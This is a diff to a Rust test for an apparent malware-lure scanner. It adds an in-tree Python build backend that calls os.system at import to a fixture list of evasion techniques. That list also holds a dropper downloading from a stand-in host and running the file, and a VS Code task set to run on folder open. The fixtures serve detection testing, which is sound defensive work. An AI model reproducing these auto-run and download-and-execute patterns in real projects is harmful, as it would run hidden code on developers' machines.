@@ -752,8 +752,9 @@ fn nothing_passes_unread() {
 /// The calls and entry points a lure uses to run its payload unseen, each in its own file:
 /// aliases of `exec`, `map(exec, ...)`, `runpy` of a file that is not Python, `pickle` of
 /// decoded data, `__import__('os')`, a decoded or downloaded command, a thread started at
-/// import, a guard that is not a main guard, pytest hooks, `atexit`, a default argument, and
-/// `exec(open(...).read())` of a data file. Payloads are harmless and never run.
+/// import, a guard that is not a main guard, pytest hooks, `atexit`, a default argument,
+/// `exec(open(...).read())` of a data file, a VS Code `folderOpen` task, a download made
+/// executable and an in-tree build backend. Payloads are harmless and never run.
 #[test]
 fn evasions_are_followed() {
     let dir = tempfile::tempdir().unwrap();
@@ -778,6 +779,8 @@ fn evasions_are_followed() {
         ("default/__init__.py", format!("import os\ndef f(x=os.system(\"{marker}\")):\n    return x\n")),
         ("data/__init__.py", "import os\nexec(open(os.path.join(os.path.dirname(__file__), \"blob.dat\")).read())\n".into()),
         ("data/blob.dat", payload.clone()),
+        ("pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n".into()),
+        ("backend.py", format!("import os\nos.system(\"{marker}\")\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    raise NotImplementedError\n")),
         ("dropper/__init__.py", "import os, subprocess, urllib.request\ndef _fetch():\n    path = os.path.expanduser(\"~/.cache/tool\")\n    urllib.request.urlretrieve(\"https://example.invalid/tool\", path)\n    os.chmod(path, 0o755)\n    subprocess.Popen([path])\n_fetch()\n".into()),
         (".vscode/tasks.json", format!("{{\n  // opened, then run\n  \"version\": \"2.0.0\",\n  \"tasks\": [\n    {{\n      \"label\": \"setup\",\n      \"command\": \"sh\",\n      \"args\": [\"-c\", \"{marker}\"],\n      \"runOptions\": {{ \"runOn\": \"folderOpen\" }},\n    }},\n  ],\n}}\n")),
     ];
@@ -805,6 +808,7 @@ fn evasions_are_followed() {
         ("import-time-code", "data/blob.dat", 2, "error"),
         ("import-time-code", ".vscode/tasks.json", 9, "error"),
         ("hidden-process", "dropper/__init__.py", 5, "error"),
+        ("install-time-code", "backend.py", 2, "warning"),
     ] {
         assert_fires(&all, rule, file, line, severity);
     }
